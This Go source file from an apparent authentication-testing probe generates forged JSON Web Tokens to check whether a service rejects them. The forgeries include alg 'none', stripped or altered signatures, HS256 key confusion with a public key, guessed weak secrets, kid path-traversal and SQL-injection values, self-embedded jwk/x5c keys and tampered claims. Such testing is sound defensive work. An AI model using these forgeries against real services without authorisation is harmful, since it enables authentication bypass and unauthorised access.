// Copyright The Durward Authors.
// SPDX-License-Identifier: Apache-2.0

package authn

import (
	"strings"

	"durward/probe/finding"
)

// trick is a forged credential.
type trick struct {
	kind  finding.Kind
	where string // "header.kid.path"
	what  string // ends the sentence "… is taken"
	text  string
	// sign signs other claims in the same way, where the trick gives the power to.
	sign func(claims map[string]any, header map[string]any) string
}

// marked adds a member that changes nothing, so that a payload differs.
func marked(claims map[string]any) map[string]any { return with(claims, map[string]any{"dw": "1"}) }

// withoutKey are tricks that need no key: the signature is left out or is not
// one.
func withoutKey(t *token) []trick {
	var out []trick
	changed := append([]byte(nil), t.signature...)
	for i := range changed {
		changed[i] ^= 0x5a
	}
	if len(changed) == 0 {
		changed = []byte("no signature")
	}
	keep := func(claims, header map[string]any) string {
		return text(with(t.header, header), claims, func(string) []byte { return changed })
	}
	out = append(out,
		trick{unverified, "signature", "a token whose signature was replaced", t.first + "." + t.second + "." + b64.EncodeToString(changed), keep},
		trick{unverified, "payload", "a token whose payload was changed under the old signature",
			t.first + "." + segment(marked(t.claims)) + "." + b64.EncodeToString(t.signature), keep})
	for _, alg := range []string{"none", "None", "NONE", "nOnE"} {
		forge := func(claims, header map[string]any) string {
			return text(with(with(t.header, map[string]any{"alg": alg}), header), claims, unsigned)
		}
		out = append(out, trick{none, "header.alg", "a token without a signature and with alg " + alg, forge(marked(t.claims), nil), forge})
	}
	two := segment(with(t.header, map[string]any{"alg": "none"})) + "." + segment(marked(t.claims))
	out = append(out,
		trick{none, "header.alg", "a token of two parts with alg none", two, nil},
		trick{none, "header.alg", "a token with alg none and the old signature", two + "." + b64.EncodeToString(t.signature), nil},
		trick{empty, "signature", "a token with an empty signature", t.first + "." + t.second + ".", func(claims, header map[string]any) string {
			return text(with(t.header, header), claims, unsigned)
		}})
	return out
}

// hs makes a trick that signs with a secret.
func hs(t *token, kind finding.Kind, where, what string, alg string, change map[string]any, key []byte) trick {
	forge := func(claims, header map[string]any) string {
		h := with(with(t.header, map[string]any{"alg": alg}), change)
		return text(with(h, header), claims, hmacOf(alg, key))
	}
	return trick{kind, where, what, forge(marked(t.claims), nil), forge}
}

// confused signs with a public key as the secret.
func confused(t *token, keys []any) []trick {
	var out []trick
	for _, key := range keys {
		for _, secret := range secretsOf(key) {
			out = append(out, hs(t, confusion, "header.alg", "a token signed by HS256 with the service's public key as the secret", "HS256", nil, secret))
		}
	}
	return out
}

// guessed signs with secrets that are easily guessed. For tokens that an HMAC
// signed the guess was verified before; for others only a blank one is tried.
func guessed(t *token, list []string) []trick {
	if w, ok := t.crack(list); ok {
		what := "a token signed with a secret out of a short list of words"
		if strings.TrimSpace(w) == "" {
			what = "a token signed with a blank secret"
		}
		return []trick{hs(t, weak, "signature", what, t.alg(), nil, []byte(w))}
	}
	return []trick{hs(t, weak, "signature", "a token signed by HS256 with a blank secret", "HS256", nil, nil)}
}

// kids make the header's kid choose the key: an empty file, and the answer to a
// query.
func kids(t *token) []trick {
	var out []trick
	for _, path := range []string{"/dev/null", "../../../../../../../../../../dev/null", "file:///dev/null"} {
		out = append(out, hs(t, kid, "header.kid.path", "a token signed with the content of an empty file that its kid names", "HS256",
			map[string]any{"kid": path}, nil))
	}
	const secret = "dwkey"
	for _, q := range []string{"'", "\""} {
		for _, end := range []string{"-- -", "#"} {
			out = append(out, hs(t, kid, "header.kid.sql", "a token signed with a text that its kid adds to a query", "HS256",
				map[string]any{"kid": "dw" + q + " UNION SELECT " + q + secret + q + " " + end}, []byte(secret)))
		}
	}
	return out
}

// enclosed sign with the run's own key and send it along.
func enclosed(t *token) []trick {
	key, err := own()
	if err != nil {
		return nil
	}
	var out []trick
	add := func(where, what string, change map[string]any) {
		forge := func(claims, header map[string]any) string {
			h := with(with(t.header, map[string]any{"alg": "RS256"}), change)
			return text(with(h, header), claims, rsaOf(key))
		}
		out = append(out, trick{embedded, where, what, forge(marked(t.claims), nil), forge})
	}
	name, _ := t.header["kid"].(string)
	if name == "" {
		name = "dw"
	}
	add("header.jwk", "a token signed with a key that stands in its own header (jwk)", map[string]any{"jwk": ownJWK(key, name)})
	if name != "dw" {
		add("header.jwk", "a token signed with a key that stands in its own header (jwk)", map[string]any{"jwk": ownJWK(key, "dw"), "kid": "dw"})
	}
	if c := ownCertificate(key); c != "" {
		add("header.x5c", "a token signed with a key whose certificate stands in its own header (x5c)", map[string]any{"x5c": []string{c}})
	}
	return out
}

// pointing makes a token whose header names where its key is.
func pointing(t *token, member, url string) string {
	key, err := own()
	if err != nil {
		return ""
	}
	return text(with(t.header, map[string]any{"alg": "RS256", member: url}), marked(t.claims), rsaOf(key))
}

// faults are claims that make a good token a bad one; the power to sign is
// needed to test them.
func faults(t *token, now int64) []claimFault {
	var out []claimFault
	if _, has := t.claims["exp"]; has {
		out = append(out, claimFault{expired, "claims.exp", "a token that expired an hour ago",
			map[string]any{"iat": now - 7200, "nbf": nil, "exp": now - 3600}, nil})
	}
	out = append(out, claimFault{notBefore, "claims.nbf", "a token that is not valid before an hour from now",
		map[string]any{"nbf": now + 3600, "exp": now + 7200}, nil})
	if _, has := t.claims["aud"]; has {
		out = append(out, claimFault{audience, "claims.aud", "a token for another service", map[string]any{"aud": "https://other.invalid"}, nil})
	}
	if _, has := t.claims["iss"]; has {
		out = append(out, claimFault{issuer, "claims.iss", "a token of another issuer", map[string]any{"iss": "https://other.invalid"}, nil})
	}
	return append(out, claimFault{critical, "header.crit", "a token with a critical extension that nobody knows", nil,
		map[string]any{"crit": []string{"dw"}, "dw": true}})
}

type claimFault struct {
	kind           finding.Kind
	where, what    string
	claims, header map[string]any
}

// garbage are texts in place of a credential that is no token.
func garbage(secret string) []trick {
	rotated := []byte(secret)
	for i, c := range rotated {
		switch {
		case c >= '0' && c <= '9':
			rotated[i] = '0' + (c-'0'+3)%10
		case c >= 'a' && c <= 'z':
			rotated[i] = 'a' + (c-'a'+5)%26
		case c >= 'A' && c <= 'Z':
			rotated[i] = 'A' + (c-'A'+5)%26
		}
	}
	out := []trick{
		{malformed, "credential", "a text that is no credential", "dw-not-a-credential", nil},
		{malformed, "credential", "a blank credential", "", nil},
		{malformed, "credential", "null", "null", nil},
		{malformed, "credential", "another text of the same form", string(rotated), nil},
	}
	if n := len(secret); n >= 12 {
		out = append(out, trick{partial, "credential", "the first half of the credential", secret[:n/2], nil},
			trick{partial, "credential", "the credential with more after it", secret + "dw", nil})
	}
	return out
}
